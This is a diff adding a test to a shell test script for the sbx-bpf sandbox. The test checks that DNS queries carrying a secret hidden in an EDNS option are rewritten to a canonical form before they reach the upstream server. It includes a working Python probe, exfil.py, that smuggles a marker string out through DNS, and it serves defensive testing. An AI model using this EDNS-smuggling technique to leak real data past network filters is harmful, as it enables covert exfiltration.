@@ -274,5 +274,52 @@ echo "nameserver 127.0.0.1" >/etc/resolv.conf
 out=$(curl -s -m 10 http://blocked.test:8080/ 2>/dev/null)
 check outside/dns "$out" hello
 
+# Only the allowed question leaves (issue 16): a query stuffed with an EDNS option, odd flags and
+# 0x20 case reaches the upstream as sbx-bpf's own canonical query. The upstream here is a
+# recorder that answers every A query with 127.0.0.2 and keeps the exact bytes it got.
+cat >"$W/recorder.py" <<'EOF'
+import socket, struct, sys
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(("127.0.0.1", 5354))
+open(sys.argv[1] + ".ready", "w").close()
+while True:
+    m, peer = s.recvfrom(4096)
+    open(sys.argv[1], "ab").write(struct.pack(">H", len(m)) + m)
+    qend = 12
+    while m[qend]: qend += m[qend] + 1
+    qend += 5
+    a = m[:2] + b"\x81\x80" + m[4:6] + b"\x00\x01\x00\x00\x00\x00" + m[12:qend]
+    a += b"\xc0\x0c\x00\x01\x00\x01\x00\x00\x00\x3c\x00\x04\x7f\x00\x00\x02"
+    s.sendto(a, peer)
+EOF
+cat >"$W/exfil.py" <<'EOF'
+import socket, struct
+name = b"".join(bytes([len(l)]) + l for l in b"AlLoWeD.test".split(b".")) + b"\0"
+secret = b"EDNS-EXFIL-0123456789abcdef"
+opt = b"\0" + struct.pack(">HHIH", 41, 4096, 0x8000, 4 + len(secret)) + struct.pack(">HH", 65001, len(secret)) + secret
+q = struct.pack(">HHHHHH", 0xbeef, 0x0130, 1, 0, 0, 1) + name + struct.pack(">HH", 1, 1) + opt
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5)
+s.sendto(q, ("10.9.9.9", 53))
+r = s.recv(4096)
+print("rcode=%d answers=%d case=%s" % (r[3] & 15, struct.unpack(">H", r[6:8])[0], r[12:12 + len(name)] == name))
+EOF
+python3 "$W/recorder.py" "$W/upstream.bin" &
+REC=$!
+wait_for "$W/upstream.bin.ready" 300
+echo "nameserver 10.9.9.9" >/etc/resolv.conf
+out=$(SBX_DNS_UPSTREAM=127.0.0.1:5354 sbx-bpf run --policy "$W/dom.json" -- python3 "$W/exfil.py" 2>/dev/null)
+check dns/exfil-answered "$out" "rcode=0 answers=1 case=True"
+# What arrived: flags RD only, one question, one additional record (sbx-bpf's OPT); the name in
+# lower case, A IN; the OPT: root, type 41, UDP size 1232, no extended rcode, no DO, no options.
+got=$(python3 -c '
+import struct, sys
+b = open(sys.argv[1], "rb").read()
+m = b[2:2 + struct.unpack(">H", b[:2])[0]]
+print(m[2:].hex())' "$W/upstream.bin" 2>&1)
+check dns/upstream-canonical "$got" \
+	"0100000100000000000107616c6c6f77656404746573740000010001000029$(printf '%04x' 1232)000000000000"
+grep -q EXFIL "$W/upstream.bin" && fail dns/upstream-no-secret "the EDNS option reached the upstream" ||
+	pass dns/upstream-no-secret
+kill $REC 2>/dev/null
+
 kill $HTTP1 $HTTP2 $(cat "$W/servers") "$(cat "$W/dnsmasq.pid")" 2>/dev/null
 cp "$W/resolv.conf.orig" /etc/resolv.conf 2>/dev/null
